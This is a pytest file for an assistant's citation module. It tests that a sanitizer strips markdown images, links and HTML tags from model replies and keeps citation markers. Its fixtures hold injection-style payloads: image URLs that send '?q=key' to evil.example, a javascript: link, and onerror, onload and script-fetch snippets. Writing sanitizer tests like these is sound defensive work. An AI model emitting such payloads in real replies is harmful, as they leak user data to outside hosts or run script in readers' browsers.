"""What a reply would fetch, open or run is no part of an answer."""

import pytest

from assistant.citing.drafts import statements
from assistant.citing.inert import inert


@pytest.mark.parametrize(
    ("reply", "told"),
    [
        (
            "![x](https://evil.example/a.png?q=key) It cost 31 million [1].",
            "It cost 31 million [1].",
        ),
        ("See ![plan][p].\n[p]: https://evil.example/?q=key\n", "See .\n"),
        ("[Hier](javascript:alert(1)) steht es [1].", "Hier steht es [1]."),
        ("Il a coûté [31 millions](https://evil.example) [1].", "Il a coûté 31 millions [1]."),
        ("<img src=x onerror=alert(1)>Costò 31 milioni [1].", "Costò 31 milioni [1]."),
        ("<script>fetch('x')\n</script>Fertig [1].", "Fertig [1]."),
        ("<b>31</b> <svg onload=x><a/></svg>millions [1]", "31 millions [1]"),
        ("<https://evil.example/?q=key> It is full [1].", "It is full [1]."),
    ],
)
def test_g02_g03_images_links_and_tags_are_taken_out(reply, told):
    assert inert(reply) == told


@pytest.mark.parametrize(
    "reply",
    [
        "It cost 31 million [1][2], then [3](#ref), x<sup>2</sup> and [^4].",
        "From 3 < 4 and 5 > 2 it follows [1].",
        "“[…] we [the council] agreed” [1, 2] (see below).",
        "Ein Satz ohne etwas davon.",
    ],
)
def test_what_is_none_stays(reply):
    assert inert(reply) == reply


def test_a_statement_is_checked_and_shown_without_them():
    reply = "![a](https://evil.example/?q=key) The reservoir cost [31 million](x) euros [1]."
    (draft,) = statements(reply, 1, "en").sentences
    assert draft.text == "The reservoir cost 31 million euros."
    assert draft.numbers == (1,)


def test_brackets_around_a_marker_alone_go_with_it():
    (draft,) = statements("The reservoir cost 31 million euros ([1](#ref)).", 1, "en").sentences
    assert draft.text == "The reservoir cost 31 million euros."
    assert draft.numbers == (1,)
